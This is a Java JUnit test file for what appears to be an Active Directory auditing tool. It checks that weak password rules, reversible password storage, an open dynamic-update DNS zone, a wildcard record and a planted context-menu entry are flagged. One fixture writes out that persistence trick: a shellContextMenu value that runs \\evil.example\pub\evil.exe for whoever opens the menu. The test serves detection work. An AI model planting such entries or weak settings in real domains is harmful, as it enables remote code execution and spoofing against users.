package bzh.vigie.agent.persistence;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.event.Item;
import bzh.vigie.event.Item.Shipped;
import bzh.vigie.event.Item.Trait;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/** What holds for a whole domain: what its passwords have to be, programs in menus, names and zones. */
final class DomainSettingsTest {
    /** {@code dNSProperty} of a zone (MS-DNSP 2.3.2.1): DSPROPERTY_ZONE_ALLOW_UPDATE, 1 byte, and its name of 1 byte. */
    private static final String UPDATES = "010000000100000000000000010000000200000002" + "00";

    private static List<Item> items(String ldif) {
        return PlaceReading.items("ad.settings", ldif);
    }

    private static Set<String> told(List<Item> items) {
        return items.stream()
                .map(item -> item.source() + " | " + item.name() + " | " + item.value())
                .collect(Collectors.toSet());
    }

    private static Item passwords(int least, int properties) {
        return items("dn: {domain}\nobjectClass: domainDNS\nminPwdLength: " + least + "\npwdProperties: " + properties
                        + "\n")
                .getFirst();
    }

    /** A domain is made with 7 characters that have to be complex (MS-SAMR 2.2.3.5 for the bits). */
    @Test
    void whatPasswordsHaveToBeIsAsMadeOrSaysWhatIsLess() {
        assertEquals(Shipped.AS_PACKAGED, passwords(7, 1).shipped());
        assertEquals(Shipped.AS_PACKAGED, passwords(14, 1).shipped());
        Item none = passwords(0, 0);
        assertEquals("at least 0 characters, of any kind", none.value());
        assertEquals(Set.of(Trait.MISMATCH), none.traits());
        assertFalse(none.shipped() == Shipped.AS_PACKAGED);
        Item kept = passwords(12, 17);
        assertEquals("at least 12 characters, kept so that controllers can read them", kept.value());
        assertEquals(Set.of(Trait.MISMATCH), kept.traits());
    }

    @Test
    void rulesOfSomeAloneAreToldWhereTheyAreAndWhereTheyHold() {
        List<Item> items = items("""
            dn: CN=Faible,CN=Password Settings Container,CN=System,{domain}
            objectClass: msDS-PasswordSettings
            msDS-MinimumPasswordLength: 0
            msDS-PasswordComplexityEnabled: TRUE
            msDS-PasswordReversibleEncryptionEnabled: TRUE
            msDS-PSOAppliesTo: CN=chef,CN=Users,{domain}

            dn: CN=chef,CN=Users,{domain}
            objectClass: user
            msDS-PSOApplied: CN=Faible,CN=Password Settings Container,CN=System,{domain}
            """);
        assertEquals(
                Set.of(
                        "CN=Faible,CN=Password Settings Container,CN=System,{domain} | passwords | at least 0 characters,"
                                + " kept so that controllers can read them; for CN=chef,CN=Users,{domain}",
                        "CN=chef,CN=Users,{domain} | passwords Faible | other rules for its passwords: Faible"),
                told(items));
    }

    /** Values of a new forest ([MS-ADTS] 6.1.1.2.3) are classes of Windows' own; a program stands with its text. */
    @Test
    void aProgramInAMenuOfAdministratorsIsToldAndWindowsOwnAreNot() {
        List<Item> items = items("""
            dn: CN=user-Display,CN=409,CN=DisplaySpecifiers,CN=Configuration,{domain}
            objectClass: displaySpecifier
            adminContextMenu: 2,{6971d64e-f335-11d0-b0bc-00c04fd8dca6}
            adminContextMenu: 1,{08eb4fa6-6ffd-11d1-b0e0-00c04fd8dca6}
            shellContextMenu: 9,Outil,\\\\evil.example\\pub\\evil.exe

            dn: CN=remoteStorageServicePoint-Display,CN=409,CN=DisplaySpecifiers,CN=Configuration,{domain}
            objectClass: displaySpecifier
            adminContextMenu: 0,&Manage...,RsAdmin.msc
            """);
        assertEquals(
                Set.of("CN=user-Display,CN=409,CN=DisplaySpecifiers,CN=Configuration,{domain} | menu shellContextMenu |"
                        + " runs for whoever opens the menu of user-Display: \\\\evil.example\\pub\\evil.exe"),
                told(items).stream()
                        .map(one -> one.replace("{forest}", "{domain}"))
                        .collect(Collectors.toSet()));
        assertEquals(Set.of(Trait.SUPERUSER), items.getFirst().traits());
    }

    private static String zone(String updates) {
        return "dn: DC=mairie.example,CN=MicrosoftDNS,CN=System,{domain}\nobjectClass: dnsZone\ndNSProperty:: "
                + Base64.getEncoder().encodeToString(HexFormat.of().parseHex(updates)) + "\n\n";
    }

    @Test
    void aNameForAllOthersAndAZoneIntoWhichAnybodyWritesAreTold() {
        String any = "dn: DC=*,DC=mairie.example,CN=MicrosoftDNS,CN=System,{domain}\nobjectClass: dnsNode\ndc: *\n";
        String secure = UPDATES;
        String open = UPDATES.substring(0, UPDATES.length() - 4) + "0100";
        assertEquals(Set.of(), told(items(zone(secure) + any + "dNSTombstoned: TRUE\n")));
        List<Item> items = items(zone(open) + any);
        assertEquals(
                Set.of(
                        "DC=mairie.example,CN=MicrosoftDNS,CN=System,{domain} | updates | whoever reaches the server"
                                + " writes into it",
                        "DC=*,DC=mairie.example,CN=MicrosoftDNS,CN=System,{domain} | name * | stands for each name that"
                                + " is not in mairie.example"),
                told(items));
        assertTrue(items.stream().allMatch(item -> item.traits().equals(Set.of(Trait.MISMATCH))));
    }
}
